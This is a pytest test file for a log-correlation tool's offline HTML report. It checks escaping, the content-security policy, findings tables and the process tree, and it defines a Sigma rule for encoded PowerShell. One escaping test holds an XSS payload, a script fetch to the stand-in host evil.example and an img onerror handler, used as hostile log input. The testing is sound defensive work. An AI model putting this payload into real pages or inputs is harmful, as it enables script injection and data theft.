"""The HTML report's content, without a browser: what it says, and that it loads nothing."""

from __future__ import annotations

import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

import correlog
from correlog import Monitor, Reason, Record, Status, UsageError
from correlog.report import render_report
from correlog.rules import AnonymousWeb

from .. import iis7

pytest.importorskip("jinja2")

SAMPLE = Path(correlog.__file__).parent / "samples" / "iis-intrusion.snare"

#: Every tag the report may use; anything else (script, link, img, iframe, ...) would be new.
TAGS = {
    "html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3", "p", "nav",
    "a", "main", "section", "div", "span", "b", "table", "caption", "tr", "th", "td", "code",
    "details", "summary", "ul", "li", "time", "footer",
}  # fmt: skip


class Page(HTMLParser):
    """The tags, attributes and text of a page, as the parser sees them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attrs for name, attrs in self.tags if name == tag]


def sample_run() -> tuple[list[Record], list[correlog.Alert]]:
    records: list[Record] = []
    monitor = Monitor([AnonymousWeb()], on_record=records.append)
    alerts = monitor.feed_many(correlog.read(SAMPLE)) + monitor.close()
    return records, alerts


def record(pid: int, **kw: Any) -> Record:
    fields: dict[str, Any] = {
        "host": "web",
        "pid": pid,
        "image": "C:\\x\\a.exe",
        "user": "u",
        "domain": None,
        "logon_id": None,
        "owner_source": None,
        "creator_pid": None,
        "creator_image": None,
        "start": pid * 10**9,
        "end": None,
        "status": Status.PARTIAL,
        "reason": Reason.FLUSHED,
        "provenance": (4688, pid),
        "layout": None,
        "first_seen": pid * 10**9,
        "process_id": ("web", None, pid, pid * 10**9, pid),
    }
    fields.update(kw)
    return Record(**fields)


def test_the_page_loads_nothing_from_anywhere() -> None:
    text = render_report(*sample_run())
    assert "://" not in text
    page = Page(text)
    assert {tag for tag, _ in page.tags} <= TAGS
    assert all((a.get("href") or "").startswith("#") for a in page.all("a"))
    assert not any("src" in attrs for _, attrs in page.tags)
    [policy] = [m["content"] for m in page.all("meta") if m.get("http-equiv")]
    assert policy is not None
    assert policy.startswith("default-src 'none';")


def test_log_text_is_escaped_and_cannot_add_markup() -> None:
    hostile = '<script>fetch("https://evil.example/x")</script><img src=x onerror=alert(1)>'
    rec = record(1, image=hostile, command_line=hostile, user='"><b>owner')
    text = render_report([rec], [], title="<i>t</i>")
    page = Page(text)
    assert {tag for tag, _ in page.tags} <= TAGS
    assert not any(name.startswith("on") for _, attrs in page.tags for name in attrs)
    assert hostile in "".join(page.text)  # shown as text, every time
    assert "<script>" not in text


def test_the_summary_counts_findings_by_rule_level_and_host() -> None:
    records, alerts = sample_run()
    text = render_report(records, alerts, sources=["iis-intrusion.snare"])
    page = " ".join("".join(Page(text).text).split())
    assert "6 processes on 2 hosts, from 2003-03-04 09:14:50 to 2003-03-04 09:16:10" in page
    assert "read from iis-intrusion.snare" in page
    # Two alerts: in the findings table, the rule's table and the timeline; two hosts with one.
    assert text.count('<tr class="finding">') == 2 + 2 + 2 + 2
    assert "<td>anonymous-web</td><td>alert</td>" in text
    assert '<td>web03</td><td class="num">3</td><td class="num">1</td>' in text
    assert r"IUSR_WEB2K ran \WINNT\system32\cmd.exe" in page


def test_tree_branches_holding_a_finding_start_open_and_the_rest_folded() -> None:
    records, alerts = sample_run()
    page = Page(render_report(records, alerts))
    tree_details = page.all("details")[:-1]  # the last one is the rule's table
    # web03: w3wp (open: ping alerted); web2k: 1188 (folded), 1020 (open: cmd alerted).
    assert ["open" in d for d in tree_details] == [True, False, True]


def test_sigma_hits_show_their_title_level_and_attribution() -> None:
    pytest.importorskip("sigma")
    from correlog.sigma import RuleSet, SigmaRule

    rule = SigmaRule.from_yaml(
        "title: Encoded PowerShell from a web server\n"
        "id: 00000000-0000-4000-8000-000000000001\n"
        "status: test\nlevel: high\nauthor: correlog tests\n"
        "logsource: {category: process_creation, product: windows}\n"
        "detection:\n  sel:\n    CommandLine|contains: ' -enc '\n  condition: sel\n",
        source="test.yml",
    )
    records: list[Record] = []
    monitor = Monitor([AnonymousWeb()], on_record=records.append)
    alerts = monitor.feed_many(correlog.read(iis7.log_lines(iis7.webshell_story())))
    alerts += monitor.close()
    hits = list(RuleSet([rule]).hunt(records))
    assert len(hits) == 1
    text = render_report(records, alerts, hits)
    page = "".join(Page(text).text)
    assert "Encoded PowerShell from a web server" in page
    assert rule.attribution in page
    assert '<span class="level level-high">high</span>' in text
    assert (
        '<td>anonymous-web</td><td>alert</td><td><span class="level level--">-</span></td>' in text
    )
    # The hit and the alert mark the same process in the tree.
    assert "! anonymous-web, Encoded PowerShell from a web server" in page


def test_the_timeline_is_in_time_order_and_says_what_it_left_out() -> None:
    records = [record(3), record(1), record(2, start=None, first_seen=2 * 10**9)]
    full = Page(render_report(records))
    times = [t for t in full.text if t.startswith("1970-01-01 00:00:0")]
    assert times[-3:] == ["1970-01-01 00:00:01", "1970-01-01 00:00:02", "1970-01-01 00:00:03"]
    cut = "".join(Page(render_report(records, timeline_limit=2)).text)
    assert "The 2 earliest processes; 1 later ones are not listed." in cut
    with pytest.raises(UsageError):
        render_report(records, timeline_limit=-1)


def test_a_chain_as_long_as_a_log_renders() -> None:
    chain = [record(1)]
    for pid in range(2, 3000):
        chain.append(record(pid, creator_process_id=chain[-1].process_id))
    text = render_report(chain)
    assert text.count("<details") == len(chain) - 1  # every process but the last has a child


def test_without_jinja2_the_error_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "jinja2", None)
    with pytest.raises(UsageError, match=r"correlog\[report\]"):
        render_report([])


def test_audit_trail_alerts_get_their_own_section_when_given() -> None:
    from correlog.rules import AuditTamper

    cleared = correlog.HostEvent(
        kind=correlog.HostEventKind.LOG_CLEARED,
        host="web03",
        time=correlog.parse_iso("2003-03-04T09:20:00Z"),
        event_id=517,
    )
    message = AuditTamper().host_event(cleared)
    assert message is not None
    records, alerts = sample_run()
    text = render_report(records, alerts, host_alerts=[(cleared, message)])
    assert (
        '<tr class="finding"><td class="when">2003-03-04 09:20:00</td><td>web03</td>'
        '<td class="num">517</td><td>the Security log of web03 was cleared (event 517)</td></tr>'
    ) in text
    page = " ".join("".join(Page(text).text).split())
    assert "Audit trail" in page
    assert "to 2003-03-04 09:20:00 (UTC)" in page  # the clear is the last thing seen
    quiet = " ".join("".join(Page(render_report(records, alerts, host_alerts=[])).text).split())
    assert "No log clear, loss of audits or audit policy change was seen." in quiet
    assert "Audit trail" not in "".join(Page(render_report(records, alerts)).text)
